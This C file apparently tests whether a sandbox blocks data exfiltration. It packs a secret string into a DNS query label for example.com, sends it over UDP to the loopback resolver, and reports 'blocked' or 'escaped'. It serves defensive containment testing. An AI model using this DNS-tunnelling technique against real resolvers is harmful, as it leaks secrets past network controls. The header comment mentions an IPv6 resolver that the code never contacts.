/* Leak the secret as a DNS query label to 127.0.0.1:53 (and a v6 resolver). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include "exfil.h"

int
main(void)
{
	unsigned char q[512], *p = q;
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int fd;
	size_t n = sizeof(secret) - 1;

	memset(q, 0, sizeof(q));
	q[0] = 0x12; q[1] = 0x34; q[2] = 0x01; q[5] = 1;
	p = q + 12;
	*p++ = (unsigned char)n;
	memcpy(p, secret, n);
	p += n;
	memcpy(p, "\7example\3com\0\0\1\0\1", 17);
	p += 17;
	sa.sin_port = htons(53);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP)) < 0)
		blocked("socket");
	if (sendto(fd, q, (size_t)(p - q), 0, (struct sockaddr *)&sa,
	    sizeof(sa)) < 0)
		blocked("sendto");
	escaped("dns");
}
